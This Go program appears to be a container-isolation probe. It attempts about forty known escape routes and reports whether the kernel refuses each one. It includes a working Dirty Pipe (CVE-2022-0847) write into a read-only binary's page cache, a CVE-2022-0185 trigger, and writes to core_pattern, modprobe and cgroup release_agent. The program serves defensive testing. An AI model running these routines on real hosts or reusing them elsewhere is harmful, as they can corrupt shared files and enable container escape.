package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

// attempt is one way out that containers have had, or that leads to the machine's own. Its error says that the kernel refused it.
type attempt struct {
	name string
	do   func() error
}

// call makes a system call that has no other effect than its refusal, where it is refused.
func call(nr uintptr, args ...uintptr) func() error {
	return func() error {
		var a [6]uintptr
		copy(a[:], args)
		if _, _, errno := unix.Syscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5]); errno != 0 {
			return errno
		}
		return nil
	}
}

func socket(family, kind, protocol int) func() error {
	return func() error {
		fd, err := unix.Socket(family, kind, protocol)
		if err == nil {
			unix.Close(fd)
		}
		return err
	}
}

func open(path string, flags int) func() error {
	return func() error {
		fd, err := unix.Open(path, flags, 0)
		if err == nil {
			unix.Close(fd)
		}
		return err
	}
}

func node(mode uint32, major, minor uint32) func() error {
	return func() error {
		const at = "/tmp/node"
		err := unix.Mknod(at, mode|0o666, int(unix.Mkdev(major, minor)))
		if err == nil {
			defer os.Remove(at)
			err = open(at, unix.O_RDONLY)()
		}
		return err
	}
}

func write(path, text string) func() error {
	return func() error { return os.WriteFile(path, []byte(text), 0) }
}

var zero [256]byte

// attempts are made one after the other; none of them is left in a state that changes the next one's.
var attempts = []attempt{
	{"device: a disk", node(unix.S_IFBLK, 254, 0)},
	{"device: memory", node(unix.S_IFCHR, 1, 1)},
	{"device: the kernel's log", node(unix.S_IFCHR, 1, 11)},
	{"device: FUSE", node(unix.S_IFCHR, 10, 229)},
	{"device: a disk of its host's", open("/dev/vda", unix.O_RDONLY)},
	{"FUSE: its door", open("/dev/fuse", unix.O_RDWR)},
	{"FUSE: a mount", func() error { return unix.Mount("x", "/tmp", "fuse", 0, "fd=0,rootmode=40000,user_id=0,group_id=0") }},
	{"cgroup: version 1", func() error { return unix.Mount("x", "/tmp", "cgroup", 0, "memory") }},
	{"cgroup: release_agent", write("/sys/fs/cgroup/release_agent", "/x")},
	{"cgroup: its own limit", write("/sys/fs/cgroup/memory.max", "max")},
	{"procfs: sysrq", write("/proc/sysrq-trigger", "h")},
	{"procfs: core_pattern", write("/proc/sys/kernel/core_pattern", "|/x")},
	{"procfs: a host's setting", write("/proc/sys/vm/drop_caches", "1")},
	{"procfs: modprobe", write("/proc/sys/kernel/modprobe", "/x")},
	{"procfs: interrupts", write("/proc/irq/default_smp_affinity", "1")},
	{"procfs: its own oom score, lower", write("/proc/self/oom_score_adj", "-900")},
	{"procfs: kcore", func() error {
		f, err := os.Open("/proc/kcore")
		if err != nil {
			return err
		}
		defer f.Close()
		if n, err := f.Read(zero[:]); n == 0 {
			return errors.Join(errors.New("empty"), err)
		}
		return nil
	}},
	{"mount: a disk by its type", blockFS},
	{"mount: a fs context too long (CVE-2022-0185)", overlong},
	{"dirty pipe (CVE-2022-0847)", dirtyPipe},
	{"userns: all ids of the host", allIDs},
	{"ptrace: another's descriptor", call(unix.SYS_PIDFD_GETFD, 0, 0, 0)},
	{"a file by its handle", call(unix.SYS_OPEN_BY_HANDLE_AT, 0, 0, 0)},
	{"bpf", call(unix.SYS_BPF, 0, 0, 0)},
	{"perf", call(unix.SYS_PERF_EVENT_OPEN, 0, 0, 0, 0, 0)},
	{"userfaultfd", call(unix.SYS_USERFAULTFD, 0)},
	{"io_uring", call(unix.SYS_IO_URING_SETUP, 1, 0)},
	{"keys", call(unix.SYS_ADD_KEY, 0, 0, 0, 0, 0)},
	{"a module", call(unix.SYS_INIT_MODULE, 0, 0, 0)},
	{"another kernel", call(unix.SYS_KEXEC_LOAD, 0, 0, 0, 0)},
	{"the clock", func() error { return unix.Settimeofday(&unix.Timeval{Sec: 1}) }},
	{"ports of the machine", call(unix.SYS_IOPL, 3)},
	{"swap", call(unix.SYS_SWAPON, 0, 0)},
	{"the kernel's log", call(unix.SYS_SYSLOG, 3, 0, 0)},
	{"quotas of disks", call(unix.SYS_QUOTACTL, 0, 0, 0, 0)},
	{"accounting", call(unix.SYS_ACCT, 0)},
	{"network: vsock", socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)},
	{"network: the kernel's ciphers", socket(unix.AF_ALG, unix.SOCK_SEQPACKET, 0)},
	{"network: audit", audit},
	{"network: raw", socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)},
	{"network: packets", socket(unix.AF_PACKET, unix.SOCK_RAW, 0)},
	{"network: a link of its own", newLink},
}

// tryAll makes every attempt, and says of each what became of it.
func tryAll() {
	for _, a := range attempts {
		if err := a.do(); err != nil {
			fmt.Printf("refused\t%s\t%v\n", a.name, err)
		} else {
			fmt.Printf("done\t%s\n", a.name)
		}
	}
}

// blockFS mounts a disk's file system by the calls for that: the container's root may mount only what is safe for it.
func blockFS() error {
	fd, err := unix.Fsopen("ext4", 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.FsconfigSetString(fd, "source", "/dev/null"); err != nil {
		return err
	}
	return unix.FsconfigCreate(fd)
}

// overlong gives a file system of the old kind more options than a page holds, in pieces: the kernel counts what is left of it.
func overlong() error {
	fd, err := unix.Fsopen("devpts", 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	for range 20 {
		if err := unix.FsconfigSetString(fd, "x", strings.Repeat("a", 250)); err != nil {
			return err
		}
	}
	return nil
}

// dirtyPipe writes into the page cache of a file that it may only read: all containers of the image share that.
func dirtyPipe() error {
	f, err := os.Open("/bin/busybox")
	if err != nil {
		return err
	}
	defer f.Close()
	var p [2]int
	if err := unix.Pipe(p[:]); err != nil {
		return err
	}
	size, err := unix.FcntlInt(uintptr(p[1]), unix.F_GETPIPE_SZ, 0)
	if err != nil {
		return err
	}
	full := make([]byte, size) // leaves the flag by which a page is added to in all places of the pipe
	if _, err := unix.Write(p[1], full); err != nil {
		return err
	}
	for left := size; left > 0; {
		n, err := unix.Read(p[0], full)
		if err != nil {
			return err
		}
		left -= n
	}
	at := int64(4)
	if _, err := unix.Splice(int(f.Fd()), &at, p[1], nil, 1, 0); err != nil {
		return err
	}
	if _, err := unix.Write(p[1], []byte("\xff\xff")); err != nil {
		return err
	}
	var b [2]byte
	if _, err := f.ReadAt(b[:], 5); err != nil {
		return err
	}
	if b == [2]byte{0xff, 0xff} {
		return nil
	}
	return errors.New("the file is as it was")
}

// allIDs makes a user namespace in which root is any user it likes of the host's.
func allIDs() error {
	pid, _, errno := unix.RawSyscall6(unix.SYS_CLONE, unix.CLONE_NEWUSER|uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0)
	if errno != 0 {
		return errno
	}
	if pid == 0 {
		for {
			unix.RawSyscall(unix.SYS_PAUSE, 0, 0, 0)
		}
	}
	defer unix.Wait4(int(pid), nil, 0, nil)
	defer unix.Kill(int(pid), unix.SIGKILL)
	return os.WriteFile(fmt.Sprintf("/proc/%d/uid_map", pid), []byte("0 0 4294967295"), 0)
}

// audit asks the kernel's audit how it is set.
func audit() error { return tell(unix.NETLINK_AUDIT, 1000, 0, nil) } // AUDIT_GET

// newLink makes a link by netlink: in a network of its own a container's root may, if it has the right at all.
func newLink() error {
	attr := func(kind uint16, data string) string {
		b := binary.NativeEndian.AppendUint16(binary.NativeEndian.AppendUint16(nil, uint16(4+len(data))), kind)
		return string(b) + data + strings.Repeat("\x00", -len(data)&3)
	}
	return tell(unix.NETLINK_ROUTE, unix.RTM_NEWLINK, unix.NLM_F_CREATE, []byte(strings.Repeat("\x00", unix.SizeofIfInfomsg)+
		attr(unix.IFLA_LINKINFO, attr(unix.IFLA_INFO_KIND, "veth\x00"))))
}

// tell sends a netlink message, and returns what the kernel answers.
func tell(protocol int, kind, flags uint16, body []byte) error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, protocol)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	m := binary.NativeEndian.AppendUint32(nil, uint32(unix.SizeofNlMsghdr+len(body)))
	m = binary.NativeEndian.AppendUint16(m, kind)
	m = binary.NativeEndian.AppendUint16(m, unix.NLM_F_REQUEST|unix.NLM_F_ACK|flags)
	m = append(append(m, make([]byte, 8)...), body...)
	if err := unix.Sendto(fd, m, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	answer := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, answer, 0)
	if err != nil || n < unix.SizeofNlMsghdr+4 {
		return errors.Join(errors.New("no answer"), err)
	}
	if code := int32(binary.NativeEndian.Uint32(answer[unix.SizeofNlMsghdr:])); code != 0 {
		return unix.Errno(-code)
	}
	return nil
}
